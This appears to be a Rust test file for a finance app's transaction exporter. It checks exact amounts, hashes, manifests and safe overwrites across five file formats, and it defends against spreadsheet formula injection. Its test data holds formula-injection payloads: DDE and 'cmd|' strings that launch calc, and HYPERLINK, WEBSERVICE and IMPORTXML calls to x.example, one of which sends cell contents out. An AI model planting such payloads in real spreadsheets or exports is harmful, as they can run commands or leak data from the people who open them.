use super::*;
use crate::view::TransactionRow;
use domain::money::{Amount, Total};
use proptest::prelude::*;
use sha2::{Digest as _, Sha256};
use std::path::Path;

fn row(description: &str, amount: &str) -> Row {
    let told = TransactionRow {
        id: "t1".into(),
        account_id: "a1".into(),
        account: "Main".into(),
        date: "2026-03-01".into(),
        date_text: "2026-03-01".into(),
        amount: amount.into(),
        currency: "GBP".into(),
        description: description.into(),
        merchant: None,
        category: None,
        own_category: None,
        code: "Payment".into(),
        missing: false,
    };
    Row { told, day: 20_513, amount: Amount::parse(amount).expect("an amount") }
}

fn about() -> About {
    About {
        profile: "Test".into(),
        companies: vec![Company { id: "c1".into(), name: "Acme".into() }],
        filter: Asked::of(&TransactionQuery::default(), &TransactionFilter::default(), &[], None),
        data_as_of: None,
        exported_at: "2026-11-25T09:00:00Z".into(),
        version: "0",
    }
}

fn write(rows: &[Row], format: ExportFormat, out: &Path) -> std::io::Result<ExportDone> {
    let to = ExportTo { format, out: out.to_owned(), overwrite: false };
    let mut scale = Scale::default();
    rows.iter().for_each(|row| scale.widen(row.amount));
    let mut export = Export::begin(&to, scale)?;
    rows.iter().try_for_each(|row| export.add(row))?;
    export.finish(&about())
}

fn read_back(rows: &[Row]) -> Vec<(String, String)> {
    let folder = tempfile::tempdir().expect("folder");
    let out = folder.path().join("rows.csv");
    write(rows, ExportFormat::Csv, &out).expect("written");
    let mut reader = ::csv::Reader::from_path(out).expect("read");
    reader.records().map(|record| record.expect("record")).map(|record| (record[7].to_owned(), record[5].to_owned())).collect()
}

#[test]
fn no_text_becomes_a_formula_and_amounts_stay_numbers() {
    let told = read_back(&[
        row("=HYPERLINK(\"http://x\",\"y\")", "-12.50"),
        row("  +cmd|calc", "3"),
        row("\u{ff1d}1+1", "0"),
        row("\u{feff}@SUM(A1)", "0"),
        row("\tin the next cell", "0"),
        row("ordinary, \"quoted\"\r\nlines", "1"),
        row("", "1"),
    ]);
    let told: Vec<(&str, &str)> = told.iter().map(|(text, amount)| (text.as_str(), amount.as_str())).collect();
    assert_eq!(
        told,
        [
            ("'=HYPERLINK(\"http://x\",\"y\")", "-12.50"),
            ("'  +cmd|calc", "3"),
            ("'\u{ff1d}1+1", "0"),
            ("'\u{feff}@SUM(A1)", "0"),
            ("'\tin the next cell", "0"),
            ("ordinary, \"quoted\"\r\nlines", "1"),
            ("", "1"),
        ]
    );
}

#[test]
fn the_hash_is_the_files_and_amounts_in_json_are_exact_text() {
    let folder = tempfile::tempdir().expect("folder");
    let out = folder.path().join("rows.json");
    let done = write(&[row("a", "1.10"), row("b", "-0.00")], ExportFormat::Json, &out).expect("written");
    let bytes = std::fs::read(&out).expect("read");
    assert_eq!(done.sha256, Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect::<String>());
    let json: serde_json::Value = serde_json::from_slice(&bytes).expect("json");
    assert_eq!((json[0]["amount"].as_str(), json[1]["amount"].as_str(), done.rows), (Some("1.10"), Some("-0.00"), 2));
    let out = folder.path().join("none.json");
    write(&[], ExportFormat::Json, &out).expect("nothing is an empty list");
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&std::fs::read(&out).expect("read")).expect("json"), serde_json::json!([]));
}

#[test]
fn an_export_that_breaks_off_leaves_the_file_before_it_and_nothing_else() {
    let folder = tempfile::tempdir().expect("folder");
    let out = folder.path().join("rows.csv");
    std::fs::write(&out, "before").expect("a file from last month");
    let to = ExportTo { format: ExportFormat::Csv, out: out.clone(), overwrite: true };
    let mut broken = Export::begin(&to, Scale::default()).expect("begun");
    broken.add(&row("a", "1")).expect("a row");
    drop(broken);
    assert_eq!(std::fs::read_to_string(&out).expect("read"), "before");
    assert!(write(&[], ExportFormat::Csv, &folder.path().join("no such folder/rows.csv")).is_err());
    assert!(write(&[], ExportFormat::Csv, &out).is_err(), "nothing is written over unless asked");
    assert!(write(&[], ExportFormat::Csv, folder.path()).is_err(), "a folder is no place for rows");
    assert_eq!(std::fs::read_dir(folder.path()).expect("list").count(), 1);
}

proptest! {
    #[test]
    fn every_text_comes_back_as_it_was_and_no_cell_acts(texts in proptest::collection::vec("[ =+@\\-\t\r\n\"',a-z\u{ff1d}\u{feff}]{0,12}", 1..8)) {
        let rows: Vec<Row> = texts.iter().map(|text| row(text, "1")).collect();
        let told = read_back(&rows);
        prop_assert_eq!(told.len(), texts.len());
        for ((cell, _), text) in told.iter().zip(&texts) {
            let visible = cell.trim_start_matches(['\u{feff}', ' ']).chars().next();
            prop_assert!(!visible.is_some_and(|first| "=+-@\t\r\n\u{ff1d}".contains(first)), "{cell:?}");
            prop_assert_eq!(cell.strip_prefix('\'').filter(|rest| rest == text).unwrap_or(cell), text.as_str());
        }
    }
}

/// What opens again: the amount's text where it is text, days since 1970, description, merchant.
#[derive(Debug, PartialEq, Eq)]
struct Reopened {
    day: i64,
    amount: Amount,
    description: String,
    merchant: Option<String>,
}

fn written(row: &Row) -> Reopened {
    Reopened { day: row.day, amount: row.amount, description: row.told.description.clone(), merchant: row.told.merchant.clone() }
}

fn day(text: &str) -> i64 {
    crate::browse::days(text.parse().expect("a day"))
}

fn reopen(format: ExportFormat, out: &Path) -> Vec<Reopened> {
    let amount = |text: &str| Amount::parse(text).expect("an amount");
    let some = |text: &str| Some(text.to_owned()).filter(|text| !text.is_empty());
    let told = |row: TransactionRow| Reopened {
        day: day(&row.date),
        amount: amount(&row.amount),
        description: row.description,
        merchant: row.merchant,
    };
    match format {
        ExportFormat::Csv => ::csv::Reader::from_path(out)
            .expect("csv")
            .records()
            .map(|record| record.expect("record"))
            .map(|row| Reopened { day: day(&row[3]), amount: amount(&row[5]), description: row[7].into(), merchant: some(&row[8]) })
            .collect(),
        ExportFormat::Json => {
            let rows: Vec<TransactionRow> = serde_json::from_slice(&std::fs::read(out).expect("read")).expect("json");
            rows.into_iter().map(told).collect()
        }
        ExportFormat::Jsonl => {
            let text = std::fs::read_to_string(out).expect("read");
            text.lines().map(|line| told(serde_json::from_str(line).expect("a document a line"))).collect()
        }
        ExportFormat::Xlsx => reopen_workbook(out),
        ExportFormat::Parquet => reopen_parquet(out),
    }
}

fn reopen_workbook(out: &Path) -> Vec<Reopened> {
    use calamine::{Data, DataType as _, Reader as _};
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(out).expect("a workbook");
    let sheets: Vec<String> = book.sheet_names().into_iter().filter(|name| name != "Sums").collect();
    let text = |cell: &Data| match cell {
        Data::Empty => String::new(),
        Data::String(text) => text.clone(),
        other => panic!("text is text: {other:?}"),
    };
    let read = |row: &&[Data]| {
        assert!(matches!(row[3], Data::DateTime(_)), "a day is a day: {:?}", row[3]);
        Reopened {
            day: row[3].get_datetime().map(|day| day.as_f64().to_string().parse::<i64>().expect("whole") - 25_569).expect("a day"),
            amount: Amount::parse(&match &row[5] {
                Data::Float(number) => number.to_string(),
                other => text(other),
            })
            .expect("an amount"),
            description: text(&row[7]),
            merchant: Some(text(&row[8])).filter(|text| !text.is_empty()),
        }
    };
    let rows = |sheet: String| {
        assert_eq!(book.worksheet_formula(&sheet).expect("sheet").used_cells().count(), 0, "no cell is a formula");
        let cells = book.worksheet_range(&sheet).expect("sheet");
        let rows: Vec<&[Data]> = cells.rows().collect();
        assert_eq!(rows[0].iter().map(ToString::to_string).collect::<Vec<_>>(), row::COLUMNS);
        rows[1..].iter().map(read).collect::<Vec<_>>()
    };
    sheets.into_iter().flat_map(rows).collect()
}

fn reopen_parquet(out: &Path) -> Vec<Reopened> {
    use ::parquet::file::reader::{FileReader as _, SerializedFileReader};
    use ::parquet::record::{Field, RowAccessor as _};
    let reader = SerializedFileReader::new(std::fs::File::open(out).expect("open")).expect("parquet");
    let schema = reader.metadata().file_metadata().schema_descr();
    let names: Vec<&str> = schema.columns().iter().map(|column| column.name()).collect();
    assert_eq!(names, row::COLUMNS);
    let scale = u32::try_from(schema.column(5).type_scale()).expect("a scale");
    assert!(matches!(schema.column(5).converted_type(), ::parquet::basic::ConvertedType::DECIMAL), "a decimal type");
    let read = |row: ::parquet::record::Row| {
        let mut units = i128::from_be_bytes(row.get_decimal(5).expect("a decimal").data().try_into().expect("16 bytes"));
        let mut scale = scale;
        while scale > 0 && units % 10 == 0 {
            (units, scale) = (units / 10, scale - 1);
        }
        let fields: Vec<Field> = row.get_column_iter().map(|(_, field)| field.clone()).collect();
        let Field::Date(day) = fields[3] else { panic!("a day is a day") };
        let merchant = if let Field::Str(text) = &fields[8] { Some(text.clone()) } else { None };
        Reopened {
            day: day.into(),
            amount: rust_decimal::Decimal::try_from_i128_with_scale(units, scale).expect("fits").into(),
            description: row.get_string(7).expect("text").clone(),
            merchant,
        }
    };
    reader.get_row_iter(None).expect("rows").map(|row| read(row.expect("row"))).collect()
}

const FORMATS: [ExportFormat; 5] = [ExportFormat::Csv, ExportFormat::Xlsx, ExportFormat::Jsonl, ExportFormat::Json, ExportFormat::Parquet];

#[test]
fn every_format_opens_again_with_equal_rows_and_exact_sums() {
    let amounts =
        ["0.1", "0.2", "-0.3", "1234567890123.45", "-99999999999999.99", "12345678901234567890.12", "0.00000000000000001", "-0.00", "7"];
    let rows: Vec<Row> = (0..3_000_usize)
        .map(|n| {
            let mut row = row(&format!("PAYMENT {n}"), amounts[n % amounts.len()]);
            row.day += i64::try_from(n % 700).expect("few");
            row.told.date = crate::companies::day_text(row.day);
            row.told.merchant = (n % 3 == 0).then(|| "Müller & Söhne".to_owned());
            row
        })
        .collect();
    let folder = tempfile::tempdir().expect("folder");
    let wanted: Vec<Reopened> = rows.iter().map(written).collect();
    let sum: Total = rows.iter().map(|row| row.amount).collect();
    for format in FORMATS {
        let out = folder.path().join(format!("rows.{}", format.ending()));
        let done = write(&rows, format, &out).expect("written");
        let bytes = std::fs::read(&out).expect("read");
        let hash: String = Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!((done.rows, done.bytes, &done.sha256), (3_000, bytes.len() as u64, &hash), "{format:?}");
        let reopened = reopen(format, &out);
        assert!(reopened == wanted, "{format:?}: {:?}", reopened.iter().zip(&wanted).find(|(got, wanted)| got != wanted));
        assert_eq!(reopened.iter().map(|row| row.amount).collect::<Total>(), sum, "{format:?}");
        let manifest: serde_json::Value =
            serde_json::from_slice(&std::fs::read(folder.path().join(done.manifest)).expect("manifest")).expect("json");
        assert_eq!(
            (manifest["rows"].as_u64(), manifest["sha256"].as_str(), manifest["bytes"].as_u64()),
            (Some(3_000), Some(hash.as_str()), Some(done.bytes))
        );
        assert_eq!(manifest["filter"]["words"], "all transactions");
        assert_eq!(serde_json::from_value::<Vec<CurrencySum>>(manifest["sums"].clone()).expect("sums"), done.sums);
        assert_eq!((done.sums.len(), done.sums[0].count), (1, 3_000));
    }
    assert_eq!(std::fs::read_dir(folder.path()).expect("list").count(), 2 * FORMATS.len(), "a file and its manifest, and nothing else");
}

#[test]
fn two_hundred_hostile_texts_give_no_active_cell_and_come_back_whole() {
    let leads = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n@",
        "\r\n=",
        "\u{ff1d}",
        "\u{ff0b}",
        "\u{ff0d}",
        "\u{ff20}",
        "  =",
        "\u{200b}=",
        "\u{202e}=",
        "\u{feff}@",
        ";=",
        ",=",
        "\"=",
        "'=",
    ];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://x.example/?\"&A1,\"see\")",
        "WEBSERVICE(\"http://x.example\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(A1:A9)\tnext",
        "IMPORTXML(\"http://x.example\",\"//a\")\r\nnext",
        "_x003D_1+1",
        "\u{202e}fdp.exe\u{202c}",
        "</t></is><f>1+1</f>&amp;\u{1}\u{ffff}",
    ];
    let rows: Vec<Row> = leads.iter().flat_map(|lead| bodies.iter().map(move |body| row(&format!("{lead}{body}"), "-1.5"))).collect();
    assert_eq!(rows.len(), 200);
    let folder = tempfile::tempdir().expect("folder");
    for format in FORMATS {
        let out = folder.path().join(format!("rows.{}", format.ending()));
        write(&rows, format, &out).expect("written");
        for (got, row) in reopen(format, &out).iter().zip(&rows) {
            let sent = row.told.description.as_str();
            match format {
                ExportFormat::Csv => {
                    let seen = got.description.trim_start_matches([' ', '\u{feff}', '\u{200b}', '\u{202e}']).chars().next();
                    assert!(
                        !seen.is_some_and(|first| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(first)),
                        "{:?}",
                        got.description
                    );
                    assert_eq!(got.description.strip_prefix('\'').filter(|rest| *rest == sent).unwrap_or(&got.description), sent);
                }
                ExportFormat::Xlsx => {
                    assert_eq!(
                        got.description.replace("\r\n", "\n"),
                        sent.replace(['\u{1}', '\u{ffff}'], "\u{fffd}").replace("\r\n", "\n")
                    );
                }
                _ => assert_eq!(got.description, sent),
            }
            assert_eq!(got.amount.to_string(), "-1.5", "numbers stay numbers");
        }
    }
}
